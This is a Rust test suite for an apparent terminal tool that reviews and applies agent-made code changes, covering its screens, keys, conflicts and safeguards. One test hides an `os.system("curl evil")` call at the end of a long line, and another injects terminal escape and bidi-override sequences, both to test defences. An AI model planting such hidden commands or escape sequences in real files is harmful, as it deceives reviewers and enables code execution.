    ┌ a.rs modified hunk 1/3 [undecided] ──────────────────────────────────────────┐
    │  1   fn one() {                     │ 1   fn one() {                         │
    │▶ 2 -     first(1);                  │ 2 +     first(10);                  [ ]│
    │▌ 3 -     second(2);                 │ 3 +     second(20);                 [ ]│
    │  4   }                              │ 4   }                                  │
    │  5                                  │ 5                                      │
    │  6   fn two() {                     │ 6   fn two() {                         │
    │  7       third();                   │ 7       third();                       │
    │                                     │ 8 +     fourth();                   [ ]│
    │  8   }                              │ 9   }                                  │
    │  9                                  │10                                      │
    │ 10   fn three() {}                  │11   fn three() {}                      │
    │      ⋯ 2 lines   fn three() {}                                               │
    └──────────────────────────────────────────────────────────────────────────────┘
     y accept  n reject  j k move  → single lines  w apply  q leave  ? all keys
    ");
    show.press("l<Space>");
    assert_eq!(show.decided()[1], "a.rs y.y. - -", "a row has both sides");
    show.press("|");
    assert!(show.screen().contains("line of hunk 1/3"));
}

#[test]
fn context_grows_and_shrinks() {
    let mut show = at_a();
    show.press("-");
    assert!(show.screen().contains("1 lines of context"), "{}", show.screen());
    assert_snapshot!(show.press("-"), @"
     airlock review calm-otter   3 files +6 −4   0/5 decided   order: path
    ┌ Files ───────────────────┬ a.rs modified hunk 1/3 [undecided] ───────────────┐
    │  ! .envrc             0/1│  1   fn one() {                                   │
    │▌   a.rs               0/3│▶ 2 -     first(1);                             [ ]│
    │    b/long name.txt    0/1│▌ 2 +     first(10);                            [ ]│
    │                          │▌ 3 -     second(2);                            [ ]│
    │                          │▌ 3 +     second(20);                           [ ]│
    │                          │      ⋯ 4 lines   fn two() {                       │
    │                          │  8 +     fourth();                             [ ]│
    │                          │      ⋯ 8 lines   fn three() {}                    │
    │                          │ 16 - end                                       [ ]│
    │                          │ 17 + the end                                   [ ]│
    │                          │                                                   │
    │                          │                                                   │
    └──────────────────────────┴───────────────────────────────────────────────────┘
     0 lines of context
    ");
    show.press("+++");
    assert!(show.screen().contains("4 lines of context"));
}

#[test]
fn moved_lines_are_dim() {
    let hunk = "let moved = a_long_line(of, code);\n";
    let (old, new) = (format!("{hunk}a\nb\nc\nd\n"), format!("a\nb\nc\nd\n{hunk}"));
    let mut show = Show::on(sheet(&[("m.rs", Some(&old), Some(&new))], &[]), ReviewState::default(), SIZE, PLAIN);
    show.press("m");
    let buffer = show.terminal.backend().buffer();
    let row = show.screen().lines().position(|l| l.contains("let moved")).expect("it is shown");
    let dims =
        (0..80).filter(|x| buffer[(*x, u16::try_from(row).expect("small"))].modifier.contains(Modifier::DIM)).count();
    assert!(dims > 30, "{dims}");
    assert!(show.press("m").contains("shown as the others"));
}

#[test]
fn the_apply_screen_and_what_it_asks() {
    let mut show = at_a();
    assert!(show.press("w").contains("nothing is accepted yet"));
    show.press("yn");
    assert_snapshot!(show.press("w"), @"
     airlock review calm-otter   3 files +6 −4   2/5 decided   order: path
    ┌ What an apply would do to your working tree ─────────────────────────────────┐
    │ apply      a.rs                                                              │
    │                                                                              │
    │ Left as it is:                                                               │
    │   .envrc: 1 line undecided                                                   │
    │   a.rs: 2 lines undecided, 1 line rejected                                   │
    │   b/long name.txt: 2 lines undecided                                         │
    │                                                                              │
    │ The sandbox stays. Go on in it: airlock resume calm-otter                    │
    │                                                                              │
    │                                                                              │
    │                                                                              │
    │                                                                              │
    └──────────────────────────────────────────────────────────────────────────────┘
     y apply  Esc back to the review
    ");
    assert!(show.press("<Esc>").contains("hunk 3/3"));
    show.press("wy");
    assert_eq!(show.flow, Effect::End(ReviewOutcome::Apply(Some(ConflictHandling::Abort))));
}

#[test]
fn conflicts_are_shown_and_nothing_is_applied_over_them() {
    let mut show = at_a();
    show.desk.conflicts = vec!["a.rs".into()];
    show.press("y");
    assert_snapshot!(show.press("w"), @"
     airlock review calm-otter   3 files +6 −4   1/5 decided   order: path
    ┌ What an apply would do to your working tree ─────────────────────────────────┐
    │ conflict   a.rs  both sides change the same lines                            │
    │       base, line 1                                                           │
    │       │ one                                                                  │
    │                                                                              │
    │ Left as it is:                                                               │
    │   .envrc: 1 line undecided                                                   │
    │   a.rs: 3 lines undecided                                                    │
    │   b/long name.txt: 2 lines undecided                                         │
    │                                                                              │
    │ The sandbox stays. Go on in it: airlock resume calm-otter                    │
    │                                                                              │
    │                                                                              │
    └──────────────────────────────────────────────────────────────────────────────┘
     s apply all but conflicts  m with markers  Esc back to the review
    ");
    assert!(show.press("y").contains("nothing is written while there is a conflict"));
    show.press("s");
    assert_eq!(show.flow, Effect::End(ReviewOutcome::Apply(Some(ConflictHandling::Skip))));
    show.press("wm");
    assert_eq!(show.flow, Effect::End(ReviewOutcome::Apply(Some(ConflictHandling::Markers))));
}

#[test]
fn high_risk_is_applied_with_a_word() {
    let mut show = Show::of(&files(), SIZE);
    show.press("y");
    assert_snapshot!(show.press("wy"), @"
     airlock review calm-otter   3 files +6 −4   1/5 decided   order: risk
    ┌ What an apply would do to your working tree ─────────────────────────────────┐
    │ apply      a.rs                                                              │
    │                                                                              │
    │ Left as it is:                                                               │
    │   a.rs: 7 lines undecided                                                    │
    │   b/long name.txt: 2 lines undecided                                         │
    │                                                                              │
    │ The sandbox stays. Go on in it: airlock resume calm-otter                    │
    │                                                                              │
    │                                                                              │
    │                                                                              │
    │                                                                              │
    │ High risk is among it. Type apply to do it:                                  │
    └──────────────────────────────────────────────────────────────────────────────┘
     Enter to do it  Esc back
    ");
    show.press("y<Enter>");
    assert_eq!(show.flow, Effect::On);
    show.press("<Backspace>apply<Enter>");
    assert_eq!(show.flow, Effect::End(ReviewOutcome::Apply(Some(ConflictHandling::Abort))));
}

#[test]
fn leaving_and_discarding() {
    let mut show = at_a();
    show.press("q");
    assert_eq!(show.flow, Effect::End(ReviewOutcome::Left));
    show.press("<C-c>");
    assert_eq!(show.flow, Effect::End(ReviewOutcome::Left), "what was decided is kept");
    assert!(show.press("Q").contains("Discard all decisions"));
    show.press("x");
    assert_eq!(show.flow, Effect::On, "only yes or no");
    show.press("n");
    assert_eq!(show.flow, Effect::On);
    show.press("Qy");
    assert_eq!(show.flow, Effect::End(ReviewOutcome::Discarded));
    show.press("<C-z>");
    assert_eq!(show.flow, Effect::Suspend);
}

#[test]
fn help_is_searched() {
    let mut show = at_a();
    assert_snapshot!(show.press("?"), @"
     airlock review calm-otter   3 files +6 −4   0/5 decided   order: path
    ┌ Keys ────────────────────────────────────────────────────────────────────────┐
    │ Decide                                                                       │
    │  y             accept, and go on to what is undecided next                   │
    │  n             reject, and go on                                             │
    │  Space         toggle: accepted, rejected, undecided                         │
    │  v             begin a range of lines                                        │
    │  a  d          accept, reject all that is undecided in this file             │
    │  A  D          accept, reject all that is undecided (asks; high risk stays)  │
    │  u  Ctrl-r     undo, redo, back to where this session began                  │
    │ Change and say                                                               │
    │  s             split the hunk above the line; again: join it                 │
    │  e             edit the hunk's result in your editor                         │
    │ 30 more below; or type a word to search                                      │
    └──────────────────────────────────────────────────────────────────────────────┘
     type to search  ↓ ↑ scroll  Esc back
    ");
    assert_snapshot!(show.press("undo"), @r#"
     airlock review calm-otter   3 files +6 −4   0/5 decided   order: path
    ┌ Keys with "undo" ────────────────────────────────────────────────────────────┐
    │ Decide                                                                       │
    │  u  Ctrl-r     undo, redo, back to where this session began                  │
    │                                                                              │
    │                                                                              │
    │                                                                              │
    │                                                                              │
    │                                                                              │
    │                                                                              │
    │                                                                              │
    │                                                                              │
    │                                                                              │
    │                                                                              │
    └──────────────────────────────────────────────────────────────────────────────┘
     type to search  ↓ ↑ scroll  Esc back
    "#);
    assert!(show.press("zzz").contains("no key does that"));
    show.press("<Esc>y");
    assert_eq!(show.decided()[1], "a.rs accepted - -");
}

#[test]
fn the_mouse() {
    let mut show = at_a();
    let list = show.screen().lines().position(|l| l.contains("b/long")).expect("in the list");
    show.click(5, u16::try_from(list).expect("small"));
    assert!(show.screen().contains("b/long name.txt modified hunk"), "{}", show.screen());
    show.press("{");
    // On a mark it is that line; elsewhere the cursor goes there.
    let row = show.screen().lines().position(|l| l.contains("first(10)")).expect("shown");
    show.click(77, u16::try_from(row).expect("small"));
    assert_eq!(show.decided()[1], "a.rs 2.y. - -");
    show.press("uh");
    show.press("l");
    let row = show.screen().lines().position(|l| l.contains("fourth()")).expect("shown");
    show.click(40, u16::try_from(row).expect("small"));
    assert!(show.screen().contains("hunk 2/3"));
    let before = show.screen();
    let after = show.mouse(MouseEventKind::ScrollDown, 60, 8);
    assert_ne!(before, after);
    assert_eq!(show.decided()[1], "a.rs - - -", "a wheel decides nothing");
    let cursor = show.screen().lines().any(|line| line.contains("│▶"));
    assert!(cursor, "what is decided on is in sight:\n{}", show.screen());
}

#[test]
fn what_is_pasted_decides_nothing() {
    let mut show = at_a();
    show.app.paste("yyyyAy");
    show.draw();
    assert_eq!(show.decided()[1], "a.rs - - -");
    assert!(show.screen().contains("what was pasted is ignored"));
    show.press("c");
    show.app.paste("two\nlines\u{1b}");
    show.press("<Enter>");
    assert!(show.screen().contains("two lines"), "{}", show.screen());
}

#[test]
fn small_screens_show_what_matters() {
    let mut show = at_a();
    assert_snapshot!(show.resize(40, 10), @"
     airlock review calm-otter   3 files +6…
    ┌ a.rs modified hunk 1/3 [undecided] ──┐
    │  1   fn one() {                      │
    │▶ 2 -     first(1);                [ ]│
    │▌ 2 +     first(10);               [ ]│
    │▌ 3 -     second(2);               [ ]│
    │▌ 3 +     second(20);              [ ]│
    │  4   }                               │
    └──────────────────────────────────────┘
     y accept  n reject  ? all keys
    ");
    assert_snapshot!(show.press("h"), @"
     airlock review calm-otter   3 files +6…
    ┌ Files ───────────────────────────────┐
    │  ! .envrc                         0/1│
    │▶   a.rs                           0/3│
    │    b/long name.txt                0/1│
    │                                      │
    │                                      │
    │                                      │
    └──────────────────────────────────────┘
     y accept  n reject  ? all keys
    ");
    show.press("l");
    for (columns, rows) in [(20, 6), (10, 3), (1, 1), (200, 60), (73, 7)] {
        show.resize(columns, rows);
        show.press("jk?<Esc>");
    }
}

#[test]
fn wide_and_long_lines() {
    let long = format!("日本語 and {} the end\n", "x".repeat(200));
    let mut show = Show::of(&[("w.txt", Some("a\tb\n"), Some(&format!("a\tc\n{long}")))], SIZE);
    assert_snapshot!(show.screen(), @"
     airlock review calm-otter   1 file +2 −1   0/1 decided   order: risk
    ┌ Files ────────────────┬ w.txt modified hunk 1/1 [undecided] ─────────────────┐
    │▌   w.txt           0/1│▶1 - a       b                                     [ ]│
    │                       │▌1 + a       c                                     [ ]│
    │                       │▌2 + 日本語 and xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx [ ]│
    │                       │▌  ~ xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx    │
    │                       │▌  ~ xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx    │
    │                       │▌  ~ xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx    │
    │                       │▌  ~ xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx the end          │
    │                       │                                                      │
    │                       │                                                      │
    │                       │                                                      │
    │                       │                                                      │
    │                       │                                                      │
    └───────────────────────┴──────────────────────────────────────────────────────┘
     y accept  n reject  j k move  → single lines  w apply  q leave  ? all keys
    ");
    assert_snapshot!(show.press("W"), @"
     airlock review calm-otter   1 file +2 −1   0/1 decided   order: risk
    ┌ Files ────────────────┬ w.txt modified hunk 1/1 [undecided] ─────────────────┐
    │▌   w.txt           0/1│▶1 - a       b                                     [ ]│
    │                       │▌1 + a       c                                     [ ]│
    │                       │▌2 + 日本語 and xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx› [ ]│
    │                       │                                                      │
    │                       │                                                      │
    │                       │                                                      │
    │                       │                                                      │
    │                       │                                                      │
    │                       │                                                      │
    │                       │                                                      │
    │                       │                                                      │
    │                       │                                                      │
    └───────────────────────┴──────────────────────────────────────────────────────┘
     long lines are cut at the edge: > and < scroll them
    ");
    assert_snapshot!(show.press(">>"), @"
     airlock review calm-otter   1 file +2 −1   0/1 decided   order: risk
    ┌ Files ────────────────┬ w.txt modified hunk 1/1 [undecided] ─────────────────┐
    │▌   w.txt           0/1│▶1 -                                               [ ]│
    │                       │▌1 +                                               [ ]│
    │                       │▌2 + xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx› [ ]│
    │                       │                                                      │
    │                       │                                                      │
    │                       │                                                      │
    │                       │                                                      │
    │                       │                                                      │
    │                       │                                                      │
    │                       │                                                      │
    │                       │                                                      │
    │                       │                                                      │
    └───────────────────────┴──────────────────────────────────────────────────────┘
     y accept  n reject  j k move  → single lines  w apply  q leave  ? all keys
    ");
    show.press(">>>>>>>>>>>>>>>>>>>>>>>>>>");
    assert!(show.screen().contains("the end"), "{}", show.screen());
    show.press("<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<");
    assert!(show.screen().contains("日本語"));
}

#[test]
fn a_line_whose_end_was_never_shown_is_unseen() {
    let long = format!("return 0  # {}; import os; os.system(\"curl evil\")\n", "x".repeat(160));
    let files = [("w.py", Some("return 0\n"), Some(long.as_str()))];
    let unseen = |keys: &str| {
        let mut show = Show::of(&files, SIZE);
        show.press(keys);
        show.press("w").contains("accepted unseen")
    };
    assert!(!unseen("y"), "wrapped, all of it is there");
    // Cut at the edge before it was drawn: in a list of two files the second is opened cut.
    let two = [("a.py", Some("1\n"), Some("2\n")), files[0]];
    let cut = |keys: &str| {
        let mut show = Show::of(&two, SIZE);
        show.press("W");
        show.press("}");
        show.press(keys);
        show.press("w")
    };
    let screen = cut("y");
    assert!(screen.contains("w.py: 1 line accepted unseen"), "{screen}");
    let ends = ">".repeat(30);
    // By steps that leave no column out, all of it was there.
    let mut show = Show::of(&two, SIZE);
    for key in ["W", "}"].into_iter().chain(ends.split("").filter(|k| !k.is_empty())) {
        show.press(key);
        show.screen();
    }
    show.press("y");
    let screen = show.press("w");
    assert!(!screen.contains("unseen"), "{screen}");
}

#[test]
fn ascii_alone_where_the_locale_says_so() {
    let look = StyleSheet { unicode: false, ..PLAIN };
    let mut show = Show::on(sheet(&files(), &[]), ReviewState::default(), SIZE, look);
    show.press("ny");
    let screen = show.press("n");
    assert!(screen.is_ascii(), "{screen}");
}

#[test]
fn colours_tell_nothing_that_signs_do_not() {
    let depths = [ColorDepth::Basic, ColorDepth::Indexed, ColorDepth::True];
    let all = depths.into_iter().flat_map(|d| [Theme::Dark, Theme::Light, Theme::Either].map(|t| (d, t)));
    let plain = {
        let mut show = at_a();
        show.press("ynlv")
    };
    for (depth, theme) in all {
        let look = StyleSheet { depth, theme, unicode: true };
        let mut show = Show::on(sheet(&files(), &[]), ReviewState::default(), SIZE, look);
        show.press("o]");
        assert_eq!(show.press("ynlv"), plain, "{depth:?}");
        let buffer = show.terminal.backend().buffer();
        assert!(buffer.content.iter().any(|cell| cell.fg != Color::Reset || cell.bg != Color::Reset));
    }
    let mut show = at_a();
    show.press("ynlv");
    let buffer = show.terminal.backend().buffer();
    assert!(buffer.content.iter().all(|cell| cell.fg == Color::Reset && cell.bg == Color::Reset), "no colour at all");
}

#[test]
fn a_second_round_shows_what_is_new() {
    let sheet = sheet(&files(), &[]);
    let new = [sheet.files[1].units[1].id.clone()].into();
    let since = RoundDiff { new, gone: 0, touched: [sheet.files[1].change.path.clone()].into() };
    let mut state = ReviewState::default();
    let accept = |unit| {
        Action::Decide(vec![DecisionTarget { file: 1, unit, lines: None }], Some(airlock::review::Decision::Accepted))
    };
    state = update(state, sheet, accept(0));
    let opening = ReviewOptions { name: "calm-otter".into(), look: PLAIN, since: Some(since), cannot_send: None };
    let mut show = Show::with(sheet, state, SIZE, opening);
    assert_snapshot!(show.screen(), @"
     airlock review calm-otter   3 files +6 −4   1/5 decided   only changed since y…
    ┌ Files ────────────────┬ a.rs modified hunk 2/3 [undecided] new ──────────────┐
    │▌◐  a.rs            1/3│  2 -     first(1);                                [+]│
    │                       │  2 +     first(10);                               [+]│
    │                       │  3 -     second(2);                               [+]│
    │                       │  3 +     second(20);                              [+]│
    │                       │  4   }                                               │
    │                       │  5                                                   │
    │                       │  6   fn two() {                                      │
    │                       │  7       third();                                    │
    │                       │▶ 8 +     fourth();                                [ ]│
    │                       │  9   }                                               │
    │                       │ 10                                                   │
    │                       │ 11   fn three() {}                                   │
    └───────────────────────┴──────────────────────────────────────────────────────┘
     1 hunk new since you decided, 3 older undecided · f, Enter shows all
    ");
    show.press("y");
    assert!(show.press("w").contains("a.rs: 1 decision kept, though the file changed otherwise"), "{}", show.screen());
}

#[test]
fn hostile_text_is_harmless_in_every_pane() {
    let evil = "\u{1b}]0;pwned\u{7}\u{1b}[2J\u{202e}\u{9b}31m\r\u{8}";
    let path = format!("d/{}\u{202e}.rs", "\u{1b}[2J");
    let old = format!("{evil}\nsame\n{evil} heading\n\n\n\n\n\n\n\n\nx\n");
    let new = format!("{evil}changed\nsame\n{evil} heading\n\n\n\n\n\n\n\n\ny{}\n", "\u{301}".repeat(500));
    let refused = [Refused { path: evil.into(), reason: evil.into() }];
    let mut show = Show::on(sheet(&[(&path, Some(&old), Some(&new))], &refused), ReviewState::default(), SIZE, PLAIN);
    let hostile = |screen: &str| screen.chars().any(|c| c != '\n' && airlock::core::escape::is_hidden(c));
    show.desk.leaves = Some(format!("{evil}\n").into_bytes());
    show.desk.findings = vec![high(evil)];
    show.desk.conflicts = vec![path.clone()];
    for keys in [
        "", "l", "j", "|", "|", "h", "h", "l", "y", "u", "e", "p", "<Esc>", "w", "j", "<Esc>", "+", "b", "b", "z", "z",
        "?", "<Esc>",
    ] {
        let screen = show.press(keys);
        assert!(!hostile(&screen), "after {keys}:\n{screen}");
    }
    // What a person pastes goes the same way.
    for keys in ["c", "/", "f"] {
        show.press(keys);
        show.app.paste(evil);
        show.draw();
        assert!(!hostile(&show.screen()), "{}", show.screen());
        show.press("\u{202e}<Enter>");
        assert!(!hostile(&show.screen()), "{}", show.screen());
    }
}

#[test]
fn a_draft_that_cannot_be_kept_ends_the_review() {
    let mut show = at_a();
    show.desk.is_full = true;
    let key =
        crossterm::event::KeyEvent::new(crossterm::event::KeyCode::Char('y'), crossterm::event::KeyModifiers::NONE);
    assert!(show.app.key(key, &mut show.desk).is_err());
}

#[test]
fn an_empty_changeset_can_be_looked_at() {
    let mut show = Show::of(&[], SIZE);
    show.press("yn<Space>vadADsecRu/x<Enter>fu<Enter>ozb|m+-pwjkhl[]{}gG<PgDn><PgUp>");
    assert_eq!(show.flow, Effect::On);
}

#[test]
fn lines_that_were_drawn_are_remembered() {
    let long: String = (0..100).map(|n| format!("line {n}\n")).collect();
    let mut show = Show::of(&[("n.txt", None, Some(&long))], SIZE);
    let seen = |events: &[Event]| {
        let lines = events.iter().filter_map(|event| match event {
            Event::Seen { lines, .. } => lines.parse::<LineSet>().ok(),
            _ => None,
        });
        lines.fold(LineSet::default(), |all, more| all.union(&more)).len()
    };
    assert_eq!(seen(&show.desk.kept), 12);
    show.press("y");
    assert_eq!(show.app.state.unseen(&show.sheet.files[0].units[0]), 88);
    show.press("<PgDn>");
    assert!(seen(&show.desk.kept) > 20);
    let again = ReviewState::of(show.desk.kept.clone());
    assert_eq!(again.unseen(&show.sheet.files[0].units[0]), 100 - seen(&show.desk.kept));
}

/// Whatever is pressed: nothing panics, what was kept is the state, and undo goes back to the beginning.
#[test]
fn random_keys() {
    use proptest::prelude::*;
    use proptest::test_runner::{Config, TestRunner};

    const KEYS: [&str; 58] = [
        "y", "y", "n", "n", "<Space>", "<Space>", "v", "a", "d", "A", "D", "s", "s", "e", "E", "c", "R", "u", "u",
        "<C-r>", "/", "<C-n>", "<C-p>", "f", "o", "z", "b", "|", "m", "+", "-", "p", "w", "Q", "?", "h", "l", "l", "j",
        "j", "k", "<Down>", "<Up>", "<Left>", "<Right>", "[", "]", "{", "}", "g", "G", "<PgUp>", "<PgDn>", "<Esc>",
        "<Enter>", "x", "<", ">",
    ];
    let lock = |n: u32| (0..n).map(|n| format!("[[package]] {n}\n")).collect::<String>();
    let (old, new) = (lock(30), lock(50).replace(" 7\n", " 7x\n"));
    let mut all = files();
    all.push(("Cargo.lock", Some(&old), Some(&new)));
    all.push(("refused", None, Some("x\n")));
    all.push(("crlf", Some("a\r\nb\r\nc\r\n"), Some("a\nB\nc\n")));
    all.push(("empty", None, Some("")));
    all.push(("gone", Some("x\n"), None));
    let sheet = sheet(&all, &[]);
    let keys = prop::collection::vec(prop::sample::select(KEYS.to_vec()), 0..80);
    let sizes = prop::sample::select(vec![(80, 16), (40, 10), (140, 20), (20, 6)]);
    let mut runner = TestRunner::new(Config { cases: 300, failure_persistence: None, ..Config::default() });
    let run = runner.run(&(keys, sizes, any::<bool>()), |(keys, size, edits)| {
        let mut show = Show::on(sheet, ReviewState::default(), size, PLAIN);
        show.desk.leaves = edits.then(|| b"edited\n".to_vec());
        for key in &keys {
            show.press(key);
            let again = ReviewState::of(show.desk.kept.clone());
            prop_assert_eq!(&again.decisions, &show.app.state.decisions, "what was kept after {}", key);
            prop_assert!(show.decided().iter().any(|line| matches!(line.as_str(), "refused -" | "refused rejected")));
        }
        let last = show.app.state.decisions.clone();
        show.press("<Esc><Esc>");
        let undone = "u".repeat(keys.len() * 2);
        show.press(&undone);
        prop_assert_eq!(&show.app.state.decisions, &airlock::review::Decisions::default());
        show.press(&"<C-r>".repeat(keys.len() * 2));
        // Of what was taken back by a key nothing comes again that was not there.
        let all_back = show.app.state.decisions == last || keys.iter().any(|k| matches!(*k, "u" | "<C-r>"));
        prop_assert!(all_back);
        Ok(())
    });
    run.expect("nothing else happens");
}

#[test]
fn a_decision_on_a_file_says_what_it_turns_round() {
    let mut show = at_a();
    show.press("n");
    assert!(
        show.press("hy").contains("4 rejected lines are accepted now, with the rest of the file"),
        "{}",
        show.screen()
    );
    let mut show = at_a();
    show.press("h");
    assert!(!show.press("y").contains("along with"), "nothing was turned round");
}

#[test]
fn a_search_goes_on_within_a_block_and_counts() {
    let old = "a\n";
    let new = "a\nfind 1\nx\nfind 2\ny\nfind 3\n";
    let mut show = Show::of(&[("f.txt", Some(old), Some(new))], SIZE);
    assert!(show.press("/find<Enter>").contains("1 of 3 in this file"), "{}", show.screen());
    assert!(show.screen().contains("▶2 + find 1"), "{}", show.screen());
    assert!(show.press("<C-n>").contains("▶4 + find 2") && show.screen().contains("2 of 3"), "{}", show.screen());
    assert!(show.press("<C-n><C-n>").contains("▶2 + find 1"), "round again");
    assert!(show.press("<C-p>").contains("▶6 + find 3"), "{}", show.screen());
}

#[test]
fn parts_of_a_split_block_are_told_apart() {
    let mut show = at_a();
    show.press("ljjs");
    assert_snapshot!(show.press("["), @"
     airlock review calm-otter   3 files +6 −4   0/5 decided   order: path
    ┌ Files ───────────────────┬ a.rs modified hunk 1/4 [undecided] ───────────────┐
    │  ! .envrc             0/1│  1   fn one() {                                   │
    │▌   a.rs               0/3│▶ 2 -     first(1);                             [ ]│
    │    b/long name.txt    0/1│▌ 2 +     first(10);                            [ ]│
    │                          │┄ 3 -     second(2);                            [ ]│
    │                          │  3 +     second(20);                           [ ]│
    │                          │  4   }                                            │
    │                          │  5                                                │
    │                          │  6   fn two() {                                   │
    │                          │  7       third();                                 │
    │                          │  8 +     fourth();                             [ ]│
    │                          │  9   }                                            │
    │                          │ 10                                                │
    └──────────────────────────┴───────────────────────────────────────────────────┘
     y accept  n reject  j k move  → single lines  w apply  q leave  ? all keys
    ");
    let screen = show.press("]");
    assert!(screen.contains("│▶ 3 -     second(2)") && screen.contains("│▌ 3 +     second(20)"), "{screen}");
    assert!(screen.contains("│  2 -     first(1)"), "{screen}");
}

#[test]
fn a_message_to_the_agent_is_looked_at_and_edited() {
    let mut show = at_a();
    assert!(show.press("R").contains("there is nothing to send"), "{}", show.screen());
    show.press("n");
    let screen = show.press("R");
    assert!(screen.contains("What the agent would get") && screen.contains("Rejected, lines 2 to 3:"), "{screen}");
    // It scrolls, and Esc sends nothing.
    assert!(!show.press("jjjjj").contains("I have reviewed"), "{}", show.screen());
    assert!(show.press("<Home>k<Esc>").contains("y accept"), "{}", show.screen());
    assert_eq!((show.flow, show.app.outbox.is_none()), (Effect::On, true));
    // An editor that leaves nothing, one that fails, one that leaves another text.
    show.desk.leaves = Some(b" \n".to_vec());
    assert!(show.press("Re").contains("an empty message is not sent"), "{}", show.screen());
    show.desk.leaves = None;
    assert!(show.press("e").contains("the editor failed"), "{}", show.screen());
    assert!(String::from_utf8_lossy(&show.desk.given).contains("+    first(10);"));
    show.desk.leaves = Some(b"Please do it again.\n".to_vec());
    assert!(show.press("e").contains("Please do it again."), "{}", show.screen());
    show.press("y");
    let sent = show.app.outbox.take().expect("a message");
    assert_eq!(
        (sent.text.as_str(), sent.items().len()),
        ("Please do it again.\n", 0),
        "what is not in it was not said"
    );
    assert_eq!(show.flow, Effect::End(ReviewOutcome::Send));
    // Where nobody listens it says why.
    let opening =
        ReviewOptions { name: "r".into(), look: PLAIN, since: None, cannot_send: Some("nobody is there".into()) };
    let mut show = Show::with(show.sheet, ReviewState::default(), SIZE, opening);
    assert!(show.press("R").contains("nobody is there"));
    assert!(!show.press("?").contains("for another round"));
}

#[test]
fn what_a_deleted_file_held_is_shown() {
    let mut show = Show::of(&[("gone.txt", Some("one\ntwo\n"), None)], SIZE);
    let screen = show.screen();
    assert!(
        screen.contains("deleted, 8 bytes") && screen.contains("1 - one") && screen.contains("2 - two"),
        "{screen}"
    );
    assert!(show.press("y").contains("1/1 decided"));
}

#[test]
fn an_edit_of_a_block_that_is_parted_is_of_all_of_it() {
    let mut show = at_a();
    show.desk.leaves = Some(b"    mine();\n".to_vec());
    show.press("ljjs[ne");
    assert!(show.screen().contains("hunk 1/3 [edited]"), "{}", show.screen());
    assert!(show.press("n").contains("[x]"), "it can be decided on: {}", show.screen());
}

#[test]
fn conflicts_and_high_risk_at_once_ask_for_the_word() {
    let mut show = at_a();
    show.press("{yyyy");
    show.desk.conflicts = vec!["a.rs".into()];
    assert!(show.press("w").contains("s apply all but conflicts"), "{}", show.screen());
    assert!(show.press("s").contains("Type apply to do it"), "{}", show.screen());
    show.press("apply<Enter>");
    assert_eq!(show.flow, Effect::End(ReviewOutcome::Apply(Some(ConflictHandling::Skip))));
}

#[test]
fn the_list_is_gone_through_by_pages_and_undo_comes_back_to_the_first() {
    let names: Vec<String> = (0..50).map(|n| format!("f{n:02}")).collect();
    let files: Vec<_> = names.iter().map(|name| (name.as_str(), None, Some("x\n"))).collect();
    let mut show = Show::of(&files, SIZE);
    let at = |screen: String| {
        screen.lines().find(|l| l.contains('▶')).expect("a cursor").chars().skip(5).take(3).collect::<String>()
    };
    show.press("h");
    assert_eq!(at(show.press("G")), "f49");
    assert_eq!(at(show.press("g")), "f00");
    assert_ne!(at(show.press("<PgDn>")), "f01");
    show.press("Dy");
    assert!(show.press("u").contains("0/50 decided"));
    assert_eq!(at(show.screen()), "f00");
    // The help is gone through as well.
    let mut show = Show::of(&files, (60, 12));
    let first = show.press("?");
    assert_ne!(show.press("<Down><Down>"), first);
    assert_eq!(show.press("<Up><Up><Up>"), first);
}

#[test]
fn a_long_block_is_gone_through_to_its_end() {
    let text: String = (0..100).map(|n| format!("line {n}\n")).collect();
    let mut show = Show::of(&[("f", None, Some(&text))], SIZE);
    for _ in 0..15 {
        show.press("<PgDn>");
    }
    assert!(show.screen().contains("line 99"), "{}", show.screen());
    let end = format!("{}needle\n", "x".repeat(500));
    let mut show = Show::of(&[("f", None, Some(&end))], SIZE);
    assert!(show.press("/needle<Enter>").contains("xneedle"), "{}", show.screen());
}
